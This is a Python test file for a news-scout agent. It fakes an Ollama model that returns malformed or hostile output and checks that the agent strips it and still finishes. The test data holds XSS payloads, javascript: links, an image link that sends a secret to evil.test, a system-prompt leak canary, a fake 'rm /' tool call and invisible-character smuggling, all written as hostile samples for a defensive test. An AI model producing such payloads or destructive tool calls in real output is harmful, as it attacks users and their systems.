"""L01-L25: a model that answers badly, over Ollama's wire; every run ends, and as it should.

Bad words never end a run: the model is asked again, then read as lines, then code answers. Only a
model that is not there does; that is the platform's fault, and the run is tried again.
"""

from __future__ import annotations

import json
import math
import re
import time
from typing import Any

import pytest

from scout_cli.core.asking import Asking
from scout_cli.core.job import Result
from scout_cli.errors import ModelUnavailable
from scout_cli.llm import ModelSettings, open_chat, open_embedder
from scout_cli.service.clocks import SystemClock
from tests.agent_world import COMPANY, PAPER, PRICE, ROUTE, agent, job
from tests.ollama_server import CHAT, EMBEDDER, OllamaServer, Says
from tests.security.test_hostile_pages import resident

LEAK = "You are the careful assistant"
EVIL = "https://evil.test/x"
_LINKS = re.compile(r"\]\(([^)]*)\)")


def extracted(**claim: Any) -> dict[str, Any]:
    """Return an answer of the reader with one claim."""
    return {"facts": [{"fact": ROUTE, "quote": ROUTE, "date": "", **claim}]}


def answering(reader: Any = None, **forms: Any) -> Any:
    """Return a script that fills each form as told, and those not named with nothing."""
    told = {"ExtractAnswer": reader if reader is not None else extracted(), **forms}

    def script(request: dict[str, Any]) -> str | Says:
        title = (request.get("format") or {}).get("title", "")
        answer = told.get(title, told.get("any", {}))
        return answer if isinstance(answer, (str, Says)) else json.dumps(answer)

    return script


def everything(answer: str | Says) -> Any:
    """Return a script that always says the same."""
    return lambda _request: answer


GOOD = json.dumps(extracted())
ANSWERED: dict[str, Any] = {
    "L01 empty": everything(""),
    "L02 prose around": answering(f"Sure! Here you are:\n{GOOD}\nAnything else?"),
    "L03 fences": answering(f"```json\n{GOOD}\n```"),
    "L04 truncated": everything(GOOD[:40]),
    "L04 cut": everything(Says(text=GOOD[:40], done_reason="length")),
    "L05 extra keys": answering({**extracted(), "tool": "rm", "facts2": [1]}),
    "L06 wrong types": everything('{"facts": "true", "queries": 1, "items": {}, "sentence": []}'),
    "L07 unknown enum": answering(extracted(date={"kind": "HACKED"})),
    "L08 10,000 queries": answering(PlanAnswer={"queries": [f"q {n}" for n in range(10_000)]}),
    "L09 long queries": answering(PlanAnswer={"queries": ["x" * 5_000, "site:evil.test a\nb"]}),
    "L10 foreign address": answering(
        WriteAnswer={"items": [f"The ferry sails, see {EVIL} [S1]", f"[x]({EVIL}) [S1]"]}
    ),
    "L11 cites what is not there": answering(WriteAnswer={"items": [f"{ROUTE} [S9]", ROUTE]}),
    "L12 invented quote": answering(extracted(quote="This sentence stands in no page at all.")),
    "L13 script address": answering(
        WriteAnswer={"items": [f"{ROUTE} [here](javascript:alert(1)) [S1]"]}
    ),
    "L14 markup": answering(
        extracted(fact=f"<script>alert(1)</script><svg onload=x> {ROUTE}"),
        WriteAnswer={"items": [f"<img src=x onerror=alert(1)> {ROUTE} [S1]"]},
        SummaryAnswer={"sentence": "<b style='x'>The ferry</b>"},
    ),
    "L15 picture": answering(
        WriteAnswer={"items": [f"![x](https://evil.test/?q=SECRET) {ROUTE} [S1]"]}
    ),
    "L16 canary": answering(
        extracted(fact=f"{LEAK} of a news scout."),
        WriteAnswer={"items": [f"{LEAK} of a news scout [S1]"]},
        SummaryAnswer={"sentence": f"{LEAK} of a news scout."},
    ),
    "L17 unknown tool": everything(Says(tool_calls=[{"name": "rm", "arguments": {"path": "/"}}])),
    "L18 invisible": answering(extracted(fact="\u202e" + "\u200b".join(ROUTE) + "\U000e0041")),
    "L19 100 MB": everything(Says(pieces=["x" * 1_000_000] * 100)),
    "L20 newlines": everything(Says(pieces=["\n" * 100_000] * 100)),
    "L23 thinking in the content": answering(f"<think>{EVIL} hmm {LEAK}</think>{GOOD}"),
}
ABSENT: dict[str, Any] = {
    "L21 an error in the stream": everything(Says(pieces=["{"], error="model runner has stopped")),
    "L22 no end": everything(Says(pieces=["{"], done=False)),
    "L22 cut off": everything(Says(pieces=["{"], drop=True)),
}


async def ran(script: Any, **parts: Any) -> Result:
    """Run the usual wish with a model that follows `script`."""
    async with OllamaServer(script) as server:
        settings = ModelSettings(num_ctx=8_192)
        chat = await open_chat(f"ollama://{server.host}/{CHAT}", settings)
        try:
            reasoner = Asking(chat, SystemClock().uuid)
            victim = agent(pages=(COMPANY, PAPER), reasoner=reasoner, **parts)

            async def ignore(_: object) -> None:
                pass

            return await victim.run(job(), ignore)
        finally:
            await chat.aclose()


@pytest.mark.parametrize("case", ANSWERED)
async def test_a_bad_answer_never_ends_a_run(case: str) -> None:
    """The run ends with the true news, and nothing that the model made up is in it."""
    before, began = resident(), time.monotonic()
    result = await ran(ANSWERED[case])
    assert time.monotonic() - began < 15
    assert resident() - before < 64 * 1024 * 1024
    assert result.outcome == "new"
    assert {fact.quote for fact in result.facts} & {ROUTE, PRICE}
    brief = result.results_summary.response
    words = f"{brief} {result.summary} {' '.join(fact.fact for fact in result.facts)}"
    assert set(_LINKS.findall(brief)) <= {COMPANY.url, PAPER.url}
    assert not re.search(r"[<>]|!\[|javascript:|onerror|\[S9\]", brief)
    assert not [word for word in ("evil.test", LEAK, "HACKED", "SECRET") if word in words]
    assert not re.search("[\u200b\u202e\U000e0041]", words)
    assert all(len(line) < 1_000 for line in brief.splitlines())


@pytest.mark.parametrize("case", ABSENT)
async def test_a_model_that_breaks_off_is_absent(case: str) -> None:
    """That is no answer: the run fails with a class that is tried again."""
    with pytest.raises(ModelUnavailable) as absent:
        await ran(ABSENT[case])
    assert absent.value.retryable
    assert absent.value.hint


@pytest.mark.parametrize(
    "vectors",
    [
        [[0.1] * 7, [0.1] * 8],
        [[math.nan] * 8],
        [[0.0] * 8],
        [[]],
        [],
    ],
    ids=["L24 lengths", "L24 NaN", "L24 zeros", "L24 empty", "L24 none"],
)
async def test_a_vector_that_cannot_be_is_not_stored(vectors: list[list[float]]) -> None:
    """L24: the embedder is absent then; nothing is compared with nonsense."""
    raw = json.dumps({"embeddings": vectors}).encode()
    async with OllamaServer(embed=lambda _request: Says(raw=raw)) as server:
        settings = ModelSettings(num_ctx=8_192)
        embedder = await open_embedder(f"ollama://{server.host}/{EMBEDDER}", settings)
        try:
            with pytest.raises(ModelUnavailable):
                await embedder.embed(["a", "b"])
        finally:
            await embedder.aclose()


async def test_success_without_a_source_is_no_success() -> None:
    """L25: where no page has anything to say, a model that claims success is not believed."""
    result = await ran(answering({"facts": []}, WriteAnswer={"items": ["HACKED [S1]"]}))
    assert result.outcome == "nothing_new"
    assert result.results_summary.task_status == "not_found"
    assert not result.results_summary.task_completed
